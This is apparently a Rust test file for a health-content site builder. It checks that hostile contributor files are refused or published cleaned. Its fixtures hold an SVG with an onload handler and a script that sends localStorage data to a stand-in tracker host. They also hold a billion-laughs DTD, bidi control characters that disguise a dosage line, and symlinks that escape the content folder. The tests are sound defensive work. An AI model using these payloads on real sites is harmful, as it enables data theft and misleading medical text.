//! Content from a careless or hostile contributor: every case is refused at its file and
//! line, or published inert. (The drawing cleaner's own cases are in crates/drawings.)

mod fixture;

use fixture::{Fixture, assert_error};
use health_content::Date;
use health_content::build::publish_pictures;
use health_content::source::drawings::check_drawings;
use health_content::source::{ContentTree, check_with_pictures};
use health_pictures::Cache;

fn today() -> Date {
    Date::parse(fixture::TODAY).unwrap()
}

const HOSTILE_SVG: &str = r###"<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360" onload="alert(document.domain)">
<metadata>/home/jo/Private</metadata>
<script>fetch('https://tracker.example/?'+localStorage.saved)</script>
<image href="https://tracker.example/pixel.png" width="1" height="1"/>
<rect width="640" height="360" fill="#e9f3ec"/>
</svg>"###;

#[test]
fn a_drawing_with_a_script_or_an_outside_picture_is_refused_at_its_lines() {
    let fixture = Fixture::new();
    fixture.write("images/ok.svg", HOSTILE_SVG);
    let errors = check_with_pictures(fixture.root(), today()).unwrap_err();
    assert_error(&errors, "images/ok.svg", Some(1), "event handler");
    assert_error(&errors, "images/ok.svg", Some(3), "script");
    assert_error(&errors, "images/ok.svg", Some(4), "picture inside the drawing");
    assert_eq!(errors.len(), 3, "{errors:#?}");
    // The build refuses it too, and caches nothing for it.
    let tree = ContentTree::load(fixture.root()).unwrap();
    let cache = Cache::new(fixture.root().join("cache"));
    let errors = publish_pictures(&tree, &cache).unwrap_err();
    assert_error(&errors, "images/ok.svg", Some(3), "script");
    assert!(
        !fixture.root().join("cache/drawings").exists()
            || std::fs::read_dir(fixture.root().join("cache/drawings")).unwrap().next().is_none()
    );
}

#[test]
fn a_published_drawing_is_the_cleaned_one_and_editor_data_is_a_note() {
    let fixture = Fixture::new();
    let editor = r##"<?xml version="1.0"?>
<!-- Created with Inkscape -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="640" height="360" inkscape:export-filename="/home/jo/back.png">
  <metadata>Jo Bloggs, /home/jo/drawings</metadata>
  <rect width="640" height="360" fill="#e9f3ec"/>
</svg>"##;
    fixture.write("images/ok.svg", editor);
    let tree = check_with_pictures(fixture.root(), today()).expect("notes are not errors");
    let (_, notes) = check_drawings(&tree);
    assert!(notes.iter().any(|n| n.starts_with("images/ok.svg:4: the editor's metadata")), "{notes:#?}");
    assert!(notes.iter().any(|n| n.starts_with("images/ok.svg:3: the editor's own data")), "{notes:#?}");
    let table = publish_pictures(&tree, &Cache::new(fixture.root().join("cache"))).unwrap();
    let file = table.files.iter().find(|f| f.path.starts_with("images/ok.")).expect("the drawing is published");
    let published = std::fs::read_to_string(&file.from).unwrap();
    assert_eq!(
        published,
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360"><rect width="640" height="360" fill="#e9f3ec"/></svg>"##
    );
    // A second build takes it from the cache: the same file, the same name.
    let again = publish_pictures(&tree, &Cache::new(fixture.root().join("cache"))).unwrap();
    assert_eq!(again.files, table.files);
}

#[test]
fn a_drawing_with_a_dtd_costs_nothing_and_is_refused() {
    let fixture = Fixture::new();
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360"><text>&c;</text></svg>"#;
    fixture.write("images/ok.svg", laughs);
    let errors = fixture.errors();
    assert_error(&errors, "back/one.md", None, "/images/ok.svg: line 1: the drawing declares a DTD");
}

#[test]
fn characters_that_reorder_or_hide_text_are_refused_with_their_line_and_column() {
    let fixture = Fixture::new();
    // The body's "Text *emphasis*" line is line 29 of the file.
    fixture.edit("back/one.md", "Text *emphasis*", "Take 200\u{202e}gm 004\u{202c} *emphasis*");
    let errors = fixture.errors();
    assert_error(&errors, "back/one.md", Some(29), "U+202E");
    assert_error(&errors, "back/one.md", Some(29), "column 9");
    assert_error(&errors, "back/one.md", Some(29), "U+202C");
    fixture.edit_json("site.json", "\"Tagline\"", "\"Tag\u{0}line\"");
    assert_error(&fixture.errors(), "site.json", Some(2), "NUL");
}

#[test]
fn an_isolate_is_refused_in_left_to_right_text() {
    let fixture = Fixture::new();
    fixture.edit("back/two.md", "title = \"Title one\"", "title = \"Ti\u{2067}tle\"");
    assert_error(&fixture.errors(), "back/two.md", Some(2), "right to left");
}

#[test]
fn text_is_read_in_nfc() {
    let fixture = Fixture::new();
    fixture.edit("back/two.md", "title = \"Title one\"", "title = \"Cafe\u{301}\"");
    let tree = ContentTree::load(fixture.root()).unwrap();
    let two = tree.centers[0].items.iter().find(|i| i.item.slug == "two").unwrap();
    assert_eq!(two.item.title, "Caf\u{e9}");
}

#[test]
fn a_symbolic_link_out_of_the_content_folder_is_refused() {
    let fixture = Fixture::new();
    let outside = fixture.root().with_extension("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.svg"), r#"<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360"/>"#)
        .unwrap();
    std::fs::write(outside.join("secret.md"), fixture::article("/back/one")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.svg"), fixture.root().join("images/out.svg")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.md"), fixture.root().join("back/three.md")).unwrap();
    fixture.edit("back/two.md", "src = \"/images/ok.svg\"", "src = \"/images/out.svg\"");
    let errors = fixture.errors();
    assert_error(&errors, "back/three.md", None, "leads out of the content folder");
    fixture.write("back/three.md", "");
    std::fs::remove_file(fixture.root().join("back/three.md")).unwrap();
    assert_error(
        &fixture.errors(),
        "back/two.md",
        None,
        "image.src: images/out.svg is a symbolic link that leads out of the content folder",
    );
    // A tile's drawing (whose size the writer gives) is refused by the build, even when the
    // same bytes were cleaned and cached before.
    fixture.edit("back/two.md", "src = \"/images/out.svg\"", "src = \"/images/ok.svg\"");
    std::fs::create_dir_all(fixture.root().join("images/copy")).unwrap();
    std::fs::copy(outside.join("secret.svg"), fixture.root().join("images/copy/secret.svg")).unwrap();
    fixture.edit_json("site.json", "\"src\": \"/images/ok.svg\"", "\"src\": \"/images/copy/secret.svg\"");
    let cache = Cache::new(fixture.root().join("cache"));
    publish_pictures(&ContentTree::load(fixture.root()).unwrap(), &cache)
        .expect("the copy inside is published (and cached)");
    fixture.edit_json("site.json", "\"src\": \"/images/copy/secret.svg\"", "\"src\": \"/images/out.svg\"");
    let errors = publish_pictures(&ContentTree::load(fixture.root()).unwrap(), &cache).unwrap_err();
    assert_error(&errors, "images/out.svg", None, "leads out of the content folder");
    std::fs::remove_dir_all(&outside).unwrap();
}
